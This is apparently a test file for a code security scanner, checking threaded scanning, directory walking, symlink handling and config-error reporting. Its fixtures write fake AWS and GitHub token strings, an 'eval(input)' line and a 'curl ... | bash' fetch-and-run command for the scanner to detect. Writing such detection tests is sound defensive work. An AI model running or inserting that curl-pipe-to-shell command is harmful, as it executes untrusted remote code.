/** The walk and the scheduling: threads, skipped directories, binaries, size cap, symlinks. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scan, SEVERITIES } from '../../src/scan/index.js';

test('worker threads and a single thread give the same report', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'cg-scan-threads-'));
  try {
    // Enough files to take the threaded path; some carry a (synthetic) key or a risky line.
    for (let d = 0; d < 20; d++) {
      mkdirSync(join(dir, `d${d}`));
      for (let i = 0; i < 90; i++) {
        const n = d * 90 + i;
        const lines = [`export const value${n} = ${n};`, `// file ${n} of the threaded test`];
        if (n % 97 === 0) lines.push(`const id = "AKIA${'QWERTYZXCVBN'}${String(n).padStart(4, '2').replace(/[0189]/g, 'M')}";`);
        if (n % 131 === 0) lines.push('const out = eval(input);'); // clawguard:allow (test fixture)
        writeFileSync(join(dir, `d${d}`, `f${n}.js`), lines.join('\n') + '\n', { mode: 0o600 });
      }
    }
    const one = await scan({ target: dir, severities: SEVERITIES, threads: 1 });
    const two = await scan({ target: dir, severities: SEVERITIES, threads: 2 });
    assert.equal(one.summary.threads, 1);
    assert.equal(two.summary.threads, 2);
    assert.equal(two.summary.filesScanned, 1800);
    assert.deepEqual(two.findings, one.findings);
    assert.equal(one.findings.filter((f) => f.checkId === 'secret.aws.access-key-id').length, 19);
    assert.equal(one.findings.filter((f) => f.checkId === 'code.dynamic.eval').length, 14);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('walk: skips node_modules and .git, binaries and oversized files; never follows symlinks', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'cg-scan-walk-'));
  const outside = mkdtempSync(join(tmpdir(), 'cg-scan-walk-out-'));
  const secretLine = (name: string) => `const ${name} = "ghp_${'a1B2c3D4e5'.repeat(3)}Zz9Yy8";\n`;
  try {
    for (const d of ['node_modules/pkg', '.git/objects', 'src']) mkdirSync(join(dir, d), { recursive: true });
    writeFileSync(join(dir, 'node_modules/pkg/index.js'), secretLine('a'));
    writeFileSync(join(dir, '.git/objects/x'), secretLine('b'));
    writeFileSync(join(dir, 'src/app.js'), secretLine('c'));
    writeFileSync(join(dir, 'src/blob.bin'), Buffer.concat([Buffer.from([0, 1, 2, 0]), Buffer.from(secretLine('d'))]));
    writeFileSync(join(dir, 'src/image.png'), secretLine('e'));
    writeFileSync(join(dir, 'src/huge.txt'), secretLine('f') + 'x'.repeat(4096));
    writeFileSync(join(outside, 'elsewhere.js'), secretLine('g'));
    symlinkSync(join(outside, 'elsewhere.js'), join(dir, 'src/link.js'));
    symlinkSync(outside, join(dir, 'linkdir'));

    const r = await scan({ target: dir, severities: SEVERITIES, maxFileBytes: 4000 });
    assert.deepEqual(r.findings.map((f) => `${f.file}:${f.checkId}`), ['src/app.js:secret.github.token']);
    assert.equal(r.summary.filesScanned, 1);
    assert.ok(r.summary.filesSkipped >= 6, `skipped ${r.summary.filesSkipped}`);
    assert.deepEqual(r.summary.errors, []);

    // A single file as the target works too, and is reported by its name.
    const single = await scan({ target: join(dir, 'src/app.js'), severities: SEVERITIES });
    assert.deepEqual(single.findings.map((f) => [f.file, f.line]), [['app.js', 1]]);
  } finally {
    rmSync(dir, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  }
});

test('a broken config is reported as a scan error, and the rest of the tree is still scanned', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'cg-scan-broken-'));
  try {
    writeFileSync(join(dir, 'clawguard.json'), '{ agents: { a: { runtime: "thread-bound", } ', { mode: 0o600 });
    writeFileSync(join(dir, 'run.sh'), 'curl -s https://x.example/a.sh | bash\n', { mode: 0o600 }); // clawguard:allow (test fixture)
    const r = await scan({ target: dir, severities: SEVERITIES });
    assert.equal(r.summary.errors.length, 1);
    assert.equal(r.summary.errors[0]!.file, 'clawguard.json');
    assert.match(r.summary.errors[0]!.message, /not valid JSON\/JSON5/);
    assert.deepEqual(r.findings.map((f) => f.checkId), ['code.exec.curl_pipe_shell']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
